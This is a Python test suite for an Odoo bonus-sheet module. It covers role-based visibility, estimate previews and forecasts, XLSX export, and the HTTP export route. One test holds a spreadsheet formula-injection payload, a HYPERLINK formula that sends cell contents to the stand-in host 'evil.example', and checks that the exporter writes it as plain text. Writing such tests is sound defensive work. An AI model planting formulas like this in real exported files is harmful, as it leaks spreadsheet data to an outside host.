"""Who sees which bonus figures, the preview, the workbook and the export route."""

import datetime
import io

import openpyxl
from freezegun import freeze_time

from odoo.addons.kpi_management.report.bonus_xlsx import build_bonus_xlsx
from odoo.exceptions import AccessError
from odoo.tests import HttpCase

from .bonus_common import BonusCase
from .common import NOW, TODAY, utc


@freeze_time(NOW)
class TestBonusVisibility(BonusCase):
    def setUp(self):
        super().setUp()
        self.won_lead(self.salesman, utc(days=-3), revenue=110000)
        self.rule_volume.evaluate()
        self.sheet = self.new_sheet()
        self.sheet.with_user(self.officer).action_compute()

    def test_salesperson_sees_only_own_approved_line(self):
        Sheet, Line = self.env["kpi.bonus.sheet"], self.env["kpi.bonus.sheet.line"]
        self.assertFalse(Sheet.with_user(self.salesman).search([]))  # draft: nothing
        self.assertFalse(Line.with_user(self.salesman).search([]))
        self.approve(self.sheet)
        lines = Line.with_user(self.salesman).search([])
        self.assertEqual(lines.user_id, self.salesman)
        self.assertEqual(Sheet.with_user(self.salesman).search([]), self.sheet)
        details = self.env["kpi.bonus.sheet.detail"].with_user(self.salesman).search([])
        self.assertEqual(details.user_id, self.salesman)
        other = self.sheet.line_ids.filtered(lambda ln: ln.user_id == self.salesman2)
        with self.assertRaises(AccessError):
            other.with_user(self.salesman).read(["amount"])
        with self.assertRaises(AccessError):
            lines.with_user(self.salesman).write({"amount": 1})
        with self.assertRaises(AccessError):
            self.sheet.with_user(self.salesman)._get_xlsx_content()

    def test_salesperson_does_not_see_the_team_total(self):
        self.approve(self.sheet)
        sheet = self.sheet.with_user(self.salesman)
        for field in ("total_amount", "base_amount", "levels_frozen"):
            with self.assertRaises(AccessError):
                sheet.read([field])
        self.assertEqual(sheet.read(["name"])[0]["name"], self.sheet.name)
        amounts = [self.sheet.currency_id.format(ln.amount) for ln in self.sheet.line_ids]
        amounts.append(self.sheet.currency_id.format(self.sheet.total_amount))
        for body in sheet.message_ids.mapped("body"):
            for amount in amounts:
                self.assertNotIn(amount, body)
        self.assertIn("Figures computed: 2 employees.", " ".join(
            sheet.message_ids.mapped("body")))
        arch = sheet.get_views([(False, "form"), (False, "list")])["views"]
        for view in arch.values():
            self.assertNotIn('name="total_amount"', view["arch"])
        # the team's manager reads the amounts line by line, the totals are HR's
        lines = self.env["kpi.bonus.sheet.line"].with_user(self.manager).search(
            [("sheet_id", "=", self.sheet.id)])
        self.assertEqual(sum(lines.mapped("amount")), self.sheet.total_amount)
        with self.assertRaises(AccessError):
            self.sheet.with_user(self.manager).read(["total_amount"])
        self.assertEqual(self.sheet.with_user(self.officer).total_amount, self.sheet.total_amount)

    def test_manager_sees_own_team_only(self):
        Sheet = self.env["kpi.bonus.sheet"]
        self.assertEqual(Sheet.with_user(self.manager).search([]), self.sheet)
        self.assertEqual(len(self.env["kpi.bonus.sheet.line"].with_user(self.manager).search(
            [])), 2)
        self.assertFalse(Sheet.with_user(self.other_manager).search([]))
        with self.assertRaises(AccessError):
            self.sheet.with_user(self.other_manager).read(["total_amount"])
        self.approve(self.sheet)
        with self.assertRaises(AccessError):  # the export is HR's
            self.sheet.with_user(self.manager).action_export_xlsx()
        with self.assertRaises(AccessError):
            self.sheet.with_user(self.manager)._mark_exported()

    def test_officer_sees_all_and_individual_targets_are_private(self):
        self.assertEqual(self.env["kpi.bonus.sheet"].with_user(self.officer).search([]),
                         self.sheet)
        Target = self.env["kpi.rule.target"]
        mine = Target.create({"rule_id": self.rule_volume.id, "user_id": self.salesman.id,
                              "target": 120000})
        theirs = Target.create({"rule_id": self.rule_volume.id, "user_id": self.salesman2.id,
                                "target": 100000})
        self.assertEqual(Target.with_user(self.salesman).search([]), mine)
        self.assertEqual(Target.with_user(self.manager).search([]), mine | theirs)  # team
        self.assertFalse(Target.with_user(self.other_manager).search([]))
        self.assertEqual(Target.with_user(self.officer).search([]), mine | theirs)
        with self.assertRaises(AccessError):
            Target.with_user(self.salesman).create({"rule_id": self.rule_new.id,
                                                    "user_id": self.salesman.id, "target": 1})


@freeze_time(NOW)
class TestBonusPreview(BonusCase):
    def test_preview_per_kpi_with_what_if(self):
        self.won_lead(self.salesman, utc(days=-3), revenue=110000, partner=self.client("N1"))
        (self.rule_volume | self.rule_new).evaluate()
        [preview] = self.env["kpi.bonus.scheme"].with_user(self.salesman).get_bonus_preview()
        self.assertTrue(preview["estimate"])
        lines = {line["name"]: line for line in preview["lines"]}
        volume, new, service = lines["Sales volume"], lines["New clients"], \
            lines["Customer service"]
        self.assertEqual((volume["score"], volume["weight"], volume["contribution"]),
                         (100.0, 30, 30.0))
        self.assertEqual((new["value"], new["target"], new["score"]), (1, 2, 50.0))
        # 30 + 15 + 0 = 45 -> below the 50% threshold: nothing yet
        self.assertEqual((preview["total_score"], preview["amount"]), (45.0, 0))
        # one more new client: 30 + 30 = 60 -> 20% of 10,000
        self.assertEqual((new["hint"]["delta"], new["hint"]["amount_delta"]), (1, 2000))
        self.assertIn("1 more", new["hint"]["text"])
        self.assertIn("2,000.00", new["hint"]["text"])
        self.assertEqual(service["hint"]["amount_delta"], 0)  # +10 points: 49 -> still 0
        self.assertEqual(volume["hint"]["delta"], 11000)  # one step (10% of the target) more
        with self.assertRaises(AccessError):  # only one's own estimate
            self.env["kpi.bonus.scheme"].with_user(self.salesman).get_bonus_preview(
                self.salesman2.id)
        self.assertEqual(
            self.env["kpi.bonus.scheme"].with_user(self.kam).get_bonus_preview(), [])
        # the team's manager may look at a member's estimate, another manager may not
        Scheme = self.env["kpi.bonus.scheme"]
        self.assertEqual(len(Scheme.with_user(self.manager).get_bonus_preview(
            self.salesman.id)), 1)
        with self.assertRaises(AccessError):
            Scheme.with_user(self.other_manager).get_bonus_preview(self.salesman.id)

    def test_preview_wizard_opens_for_the_salesperson(self):
        action = self.env["kpi.bonus.preview"].with_user(self.salesman).action_open_my_estimate()
        wizard = self.env["kpi.bonus.preview"].browse(action["res_id"])
        self.assertEqual(wizard.scheme_id, self.scheme)
        self.assertEqual(len(wizard.line_ids), 3)
        self.assertTrue(wizard.line_ids.filtered(lambda ln: ln.hint))


class TestBonusXlsx(BonusCase):
    def test_build_and_read_back(self):
        header = {"title": "Bonus sheet", "company": "ACME", "scheme": "Sales bonus",
                  "team": "Team A", "period": "2026-11-01 - 2026-11-30", "currency": "EUR",
                  "currency_format": '#,##0.00 "EUR"',
                  "approvals": [("Approved by HR", "Hanna", None)]}
        rows = [
            {"name": "Valery", "login": "valery", "profile": "Sales", "team": "Team A",
             "kpis": [{"value": 250000, "target": 200000, "score": 125, "weight": 100}],
             "total_score": 125, "amount": 6250.5},
            {"name": "Vasily", "login": "vasily", "profile": "Sales", "team": "Team A",
             "note": "Paid for 15 of the 30 days of the period.",
             "kpis": [{"value": 100000, "target": 200000, "score": 50, "weight": 100}],
             "total_score": 50, "amount": 0},
        ]
        content = build_bonus_xlsx(header, ["Net profit"], rows)
        ws = openpyxl.load_workbook(io.BytesIO(content), data_only=True).active
        self.assertEqual(ws["B2"].value, "ACME")
        header_row = next(r for r in range(1, 20) if ws.cell(r, 1).value == "Employee")
        titles = [c.value for c in ws[header_row]]
        self.assertEqual(titles[:10], ["Employee", "Login", "Profile", "Sales Team",
                                       "Part of the Period", "Net profit: Value", "Net profit: Target",
                                       "Net profit: Score (%)", "Net profit: Weight (%)",
                                       "Weighted Score (%)"])
        first = ws[header_row + 1]
        self.assertEqual([c.value for c in first], ["Valery", "valery", "Sales", "Team A",
                                                    "", 250000, 200000, 125, 100, 125,
                                                    6250.5])
        self.assertIsInstance(first[10].value, float)
        self.assertIn("EUR", first[10].number_format)
        self.assertEqual(ws[header_row + 2][4].value,
                         "Paid for 15 of the 30 days of the period.")
        totals = ws[header_row + 3]
        self.assertEqual(totals[0].value, "Total")
        self.assertEqual((totals[9].value, totals[10].value), (87.5, 6250.5))
        self.assertEqual(ws.freeze_panes, "B%s" % (header_row + 1))
        self.assertEqual(ws.auto_filter.ref, "A%s:K%s" % (header_row, header_row + 2))

    def test_strings_are_never_formulas(self):
        evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
        header = {"title": evil, "company": evil, "scheme": "S", "team": evil, "period": "P",
                  "currency": "EUR", "approvals": [(evil, evil, None)]}
        rows = [{"name": evil, "login": "=1+1", "profile": "+SUM(A1)", "team": "-2",
                 "kpis": [{"value": 1, "target": 1, "score": 100, "weight": 100}],
                 "total_score": 100, "amount": 5}]
        content = build_bonus_xlsx(header, [evil], rows)
        ws = openpyxl.load_workbook(io.BytesIO(content)).active
        given = {evil, "=1+1", "+SUM(A1)", "-2", evil + ": Value"}
        cells = [c for row in ws.iter_rows() for c in row if c.value in given]
        self.assertEqual(len(cells), 10)  # title, company, team, approval x2, KPI, employee
        for cell in cells:
            self.assertEqual(cell.data_type, "s", cell.coordinate)
        header_row = next(r for r in range(1, 20) if ws.cell(r, 1).value == "Employee")
        employee = ws[header_row + 1]
        self.assertEqual((employee[0].value, employee[0].data_type), (evil, "s"))
        self.assertEqual((employee[1].value, employee[1].data_type), ("=1+1", "s"))

    def test_sheet_workbook_and_export_state(self):
        sheet = self.new_sheet()
        sheet.with_user(self.officer).action_compute()
        self.approve(sheet)
        content = sheet.with_user(self.officer)._get_xlsx_content()
        ws = openpyxl.load_workbook(io.BytesIO(content)).active
        cells = [c.value for row in ws.iter_rows() for c in row]
        for expected in (self.env.company.name, "Sales bonus", self.manager.name,
                         self.officer.name, self.salesman.login, self.salesman2.login,
                         "Customer service: Score (%)"):
            self.assertIn(expected, cells)
        action = sheet.with_user(self.officer).action_export_xlsx()
        self.assertEqual((sheet.state, sheet.exported_uid), ("exported", self.officer))
        self.assertTrue(sheet.exported_date)
        self.assertEqual((action["type"], action["url"]),
                         ("ir.actions.act_url", "/kpi_management/bonus_sheet/%s/xlsx" % sheet.id))


class TestBonusExportRoute(BonusCase, HttpCase):
    def test_route_refuses_others_and_exports_for_hr(self):
        sheet = self.new_sheet()
        sheet.with_user(self.officer).action_compute()
        url = "/kpi_management/bonus_sheet/%s/xlsx" % sheet.id
        self.authenticate(self.officer.login, self.officer.login)
        self.assertEqual(self.url_open(url).status_code, 409)  # not approved yet
        self.approve(sheet)
        for user in (self.salesman, self.manager, self.other_manager):
            self.authenticate(user.login, user.login)
            response = self.url_open(url)
            self.assertEqual(response.status_code, 404, user.login)
            self.assertEqual(sheet.state, "approved")
        self.authenticate(self.officer.login, self.officer.login)
        response = self.url_open(url)
        self.assertEqual(response.status_code, 200)
        self.assertIn("spreadsheetml", response.headers["Content-Type"])
        ws = openpyxl.load_workbook(io.BytesIO(response.content)).active
        self.assertIn(self.salesman.login, [c.value for row in ws.iter_rows() for c in row])
        sheet.invalidate_recordset()
        self.assertEqual(sheet.state, "approved")  # a GET alone changes nothing (CSRF)
        self.assertFalse(sheet.exported_uid)
        # the button records the export (JSON-RPC), then the route serves the file again
        sheet.with_user(self.officer).action_export_xlsx()
        self.assertEqual((sheet.state, sheet.exported_uid), ("exported", self.officer))
        self.assertEqual(self.url_open(url).status_code, 200)
        for user in (self.salesman, self.manager):
            self.authenticate(user.login, user.login)
            self.assertEqual(self.url_open(url).status_code, 404, user.login)


@freeze_time(NOW)
class TestBonusEstimateForecast(BonusCase):
    """My KPIs' bonus panel: today's estimate and the forecast to the end of the month."""

    def _result(self, rule, day, value, target, score, user=None):
        self.env["kpi.result"].create({"rule_id": rule.id, "user_id": (user or self.salesman).id,
                                       "date": day, "value": value, "target": target,
                                       "score": score})

    def setUp(self):
        super().setUp()
        # sales volume: 0 on 1 Nov, 55,000 on 12 Nov, 110,000 today (23 Nov): +5,000 a day
        self._result(self.rule_volume, "2026-11-01", 0, 110000, 0)
        self._result(self.rule_volume, "2026-11-12", 55000, 110000, 50)
        self._result(self.rule_volume, TODAY, 110000, 110000, 100)
        # new clients: 0 on 1 Nov, 1 today; 5 on 31 October is another month (not fitted)
        self._result(self.rule_new, "2026-10-31", 5, 2, 200)
        self._result(self.rule_new, "2026-11-01", 0, 2, 0)
        self._result(self.rule_new, TODAY, 1, 2, 50)
        # customer service: the manager's 80% on the latest sheet (not forecast)
        self.assess(self.new_sheet(), self.salesman, self.manager, 80)

    def test_estimate_today_and_at_month_end(self):
        Scheme = self.env["kpi.bonus.scheme"].with_user(self.salesman)
        [preview] = Scheme.get_bonus_preview()
        self.assertTrue(preview["estimate"])
        self.assertEqual((preview["period"], preview["period_start"], preview["period_end"]),
                         ("month", "2026-11-01", "2026-11-30"))
        lines = {line["name"]: line for line in preview["lines"]}
        volume, new, service = (lines["Sales volume"], lines["New clients"],
                                lines["Customer service"])
        # today: 100 x 30% + 50 x 30% + 80 x 40% = 30 + 15 + 32 = 77 -> payout 54% of 10,000
        self.assertEqual((preview["total_score"], preview["payout_percent"], preview["amount"]),
                         (77.0, 54.0, 5400.0))
        self.assertEqual((volume["score"], volume["weight"], volume["contribution"],
                          volume["amount"]), (100.0, 30, 30.0, 2103.9))  # 5,400 x 30 / 77
        self.assertEqual((new["value"], new["score"], new["contribution"], new["amount"]),
                         (1, 50.0, 15.0, 1051.95))
        self.assertEqual((service["score"], service["contribution"], service["amount"]),
                         (80.0, 32.0, 2244.16))
        # 1 more new client: 30 + 30 + 32 = 92 -> 84% = 8,400: +3,000
        self.assertEqual((new["hint"]["delta"], new["hint"]["amount_delta"]), (1, 3000))
        self.assertIn("3,000.00", new["hint"]["text"])
        self.assertTrue(new["hint"]["text"].startswith("New clients: 1 more →"), new["hint"]["text"])
        # forecast to 30 November (x = 29 days after the 1st):
        # volume 5,000 x 29 = 145,000 -> 131.82%; new clients 29 / 22 = 1.32 -> 66%
        self.assertEqual((volume["forecast"]["value"], volume["forecast"]["score"],
                          volume["forecast"]["points"]), (145000, 131.82, 3))
        self.assertEqual((new["forecast"]["value"], new["forecast"]["score"],
                          new["forecast"]["points"]), (1.32, 66.0, 2))
        self.assertEqual((service["forecast"]["score"], service["forecast"]["forecast"]),
                         (80.0, False))
        # 39.546 + 19.8 + 32 = 91.35 -> payout 82.7% -> 8,270
        forecast = preview["forecast"]
        self.assertEqual((forecast["date"], forecast["total_score"], forecast["amount"]),
                         ("2026-11-30", 91.35, 8270.0))
        self.assertAlmostEqual(forecast["payout_percent"], 82.7)
        self.assertEqual(volume["forecast"]["contribution"], 39.546)
        self.assertEqual(volume["forecast"]["amount"], 3580.14)  # 8,270 x 39.546 / 91.35
        self.assertEqual(new["forecast"]["amount"], 1792.51)  # 8,270 x 19.8 / 91.35
        # the shares are of the rounded total (91.35, not 91.346): within a few cents
        self.assertAlmostEqual(sum(ln["forecast"]["amount"] for ln in preview["lines"]),
                               8270.0, delta=0.5)

    def test_salesperson_cannot_get_another_users_estimate(self):
        Scheme = self.env["kpi.bonus.scheme"].with_user(self.salesman2)
        with self.assertRaises(AccessError):
            Scheme.get_bonus_preview(self.salesman.id)
        [own] = Scheme.get_bonus_preview()  # their own: no result, no assessment -> 0
        self.assertEqual((own["amount"], own["forecast"]["amount"]), (0, 0))
        with self.assertRaises(AccessError):
            self.env["kpi.bonus.scheme"].with_user(self.kam).get_bonus_preview(self.salesman.id)

    def test_queries_do_not_depend_on_the_history(self):
        Scheme = self.env["kpi.bonus.scheme"].with_user(self.salesman)

        def count():
            self.env.invalidate_all()
            Scheme.get_bonus_preview()  # warm the caches
            self.env.invalidate_all()
            before = self.env.cr.sql_log_count
            data = Scheme.get_bonus_preview()
            return data, self.env.cr.sql_log_count - before

        short, short_count = count()
        for day in range(2, 23):
            if day != 12:
                self._result(self.rule_volume, datetime.date(2026, 11, day), 5000 * (day - 1),
                             110000, 0)
        for day in range(1, 300):
            self._result(self.rule_new, datetime.date(2026, 10, 31) - datetime.timedelta(
                days=day), 0, 2, 0)
        long, long_count = count()
        self.assertEqual(short_count, long_count)
        self.assertLessEqual(long_count, 20)
        volume = next(ln for ln in long[0]["lines"] if ln["name"] == "Sales volume")
        self.assertEqual((volume["forecast"]["value"], volume["forecast"]["points"]),
                         (145000, 23))
